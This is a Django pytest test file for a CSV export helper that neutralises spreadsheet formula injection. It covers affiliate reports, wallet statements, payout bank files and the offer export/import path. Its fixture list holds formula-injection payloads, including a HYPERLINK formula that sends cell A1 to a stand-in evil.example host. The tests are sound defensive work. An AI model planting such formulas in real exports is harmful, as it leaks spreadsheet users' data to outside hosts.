"""Every CSV the project writes: text a visitor typed never reaches a spreadsheet as a
formula, and the numbers we wrote stay numbers."""

import csv
import io
from decimal import Decimal

import pytest
from django.contrib.auth.models import Group
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from accounts.tests.factories import PASSWORD, StaffFactory, SuperuserFactory, UserFactory
from affiliates.tests.factories import LinkFactory, PartnerFactory
from affiliates.tests.support import record_conversion
from campaigns.tests.factories import GoalFactory
from config import csv_export
from offers.models import Offer
from offers.tests.factories import MerchantFactory, NetworkFactory, OfferFactory
from wallet.models import Account, PayoutBatch
from wallet.services.ledger import ledger_post, platform_account, transfer, user_account
from wallet.services.payouts import payouts_process
from wallet.services.withdrawals import withdrawal_approve, withdrawal_request
from wallet.tests.factories import give_available

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Claim your bonus")',
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tx",
    "\rx",
]


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


# --- the helper ---------------------------------------------------------------------------


@pytest.mark.parametrize("value", HOSTILE)
def test_a_text_cell_that_starts_a_formula_gets_a_quote_in_front(value):
    assert csv_export.safe_cell(value) == "'" + value
    assert csv_export.safe_cell(csv_export.safe_cell(value)) == "'" + value
    assert csv_export.unquote_cell(csv_export.safe_cell(value)) == value


@pytest.mark.parametrize(
    "value", ["", "plain", "a=b", "x-1", "'quoted", "1+1", 7, -7, Decimal("-5.00"), -0.5, None]
)
def test_other_cells_and_every_number_pass_untouched(value):
    assert csv_export.safe_cell(value) is value
    if isinstance(value, str):
        assert csv_export.unquote_cell(value) == value


def test_both_writers_make_every_row_safe():
    out = io.StringIO()
    plain = csv_export.writer(out)
    plain.writerow(["=1", Decimal("-1.00")])
    plain.writerows([["@a", -2], ["ok", "+3"]])
    dict_writer = csv_export.DictWriter(out, fieldnames=["a", "b"])
    dict_writer.writerow({"a": "-x", "b": Decimal("-3.50")})
    dict_writer.writerows([{"a": "\ty", "b": "z"}])

    assert _rows(out.getvalue()) == [
        ["'=1", "-1.00"],
        ["'@a", "-2"],
        ["ok", "'+3"],
        ["'-x", "-3.50"],
        ["'\ty", "z"],
    ]


# --- each export --------------------------------------------------------------------------


@pytest.mark.django_db
def test_partner_report_by_sub1_neutralises_the_sub_ids_visitors_sent(client):
    partner = PartnerFactory()
    link = LinkFactory(partner=partner)
    GoalFactory(campaign=link.campaign)
    for sub1 in HOSTILE:
        record_conversion(link, sub1=sub1, amount="10.00")
    client.force_login(partner.user)

    response = client.get(reverse("affiliates:reports-csv"), {"group_by": "sub1"})

    rows = _rows(response.content.decode())[1:]
    assert sorted((row[0], row[1]) for row in rows) == sorted(
        ("'" + sub1, "'" + sub1) for sub1 in HOSTILE
    )
    assert {row[4] for row in rows} == {"1"}


@pytest.mark.django_db
def test_statement_neutralises_text_and_keeps_negative_amounts_as_numbers(client):
    user = UserFactory()
    available = user_account(user, Account.Kind.AVAILABLE)
    bonus = platform_account(Account.Kind.BONUS_EXPENSE)
    for n, text in enumerate(HOSTILE):
        ledger_post(
            kind="test.credit",
            idempotency_key=f"csv-credit-{n}",
            lines=transfer(bonus, available, Decimal("10.00")),
            memo=text,
            reference=text,
        )
    ledger_post(
        kind="test.debit",
        idempotency_key="csv-debit",
        lines=transfer(available, bonus, Decimal("5.00")),
        memo="-5.00 correction",
        reference="-REF",
    )
    client.force_login(user)

    response = client.get(reverse("wallet:statement-csv"))

    header, debit, *credits = _rows(response.content.decode())
    assert header == [
        "date",
        "description",
        "amount",
        "balance_before",
        "balance_after",
        "reference",
    ]
    assert debit[1:] == ["'-5.00 correction", "-5.00", "60.00", "55.00", "'-REF"]
    assert [(row[1], row[2], row[5]) for row in reversed(credits)] == [
        ("'" + text, "10.00", "'" + text) for text in HOSTILE
    ]


@pytest.mark.django_db
@pytest.mark.parametrize("email", ["=1+1@example.com", "+1@example.com", "-2+3@example.com"])
def test_bank_file_neutralises_the_payees_email(email):
    user = UserFactory(email=email)
    give_available(user, "50.00")
    withdrawal = withdrawal_request(
        user=user,
        method_code="paypal",
        amount=Decimal("25.00"),
        details={"paypal_email": "payee@paypal.example"},
        password=PASSWORD,
    )
    withdrawal_approve(withdrawal=withdrawal, actor=SuperuserFactory())

    payouts_process()

    header, row = _rows(PayoutBatch.objects.get().export_csv)
    assert header == ["withdrawal_id", "email", "method", "amount", "currency", "pay_to"]
    assert row == [
        str(withdrawal.pk),
        "'" + email,
        "paypal",
        "24.50",
        "USD",
        "paypal_email=payee@paypal.example",
    ]


@pytest.mark.django_db
def test_offer_export_neutralises_text_and_the_import_reads_it_back(client):
    editor = StaffFactory()
    editor.groups.add(Group.objects.get(name="Content editor"))
    client.force_login(editor)
    network = NetworkFactory()
    store = MerchantFactory(network=network)
    titles = ['=HYPERLINK("http://evil.example","x")', "+1 bonus", "-20% off", "@SUM(A1)"]
    for n, title in enumerate(titles):
        OfferFactory(merchant=store, external_id=f"X{n}", title=title, priority=-n)

    export = client.post(
        reverse("admin:offers_offer_changelist"),
        {
            "action": "export_csv",
            "_selected_action": list(Offer.objects.values_list("pk", flat=True)),
        },
    )

    header, *rows = _rows(export.content.decode())
    by_id = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    assert {key: (row["title"], row["priority"]) for key, row in by_id.items()} == {
        f"X{n}": ("'" + title, str(-n)) for n, title in enumerate(titles)
    }

    client.post(
        reverse("admin:offers_offer_import"),
        {"network": network.pk, "file": SimpleUploadedFile("offers.csv", export.content)},
    )

    assert dict(Offer.objects.values_list("external_id", "title")) == {
        f"X{n}": title for n, title in enumerate(titles)
    }
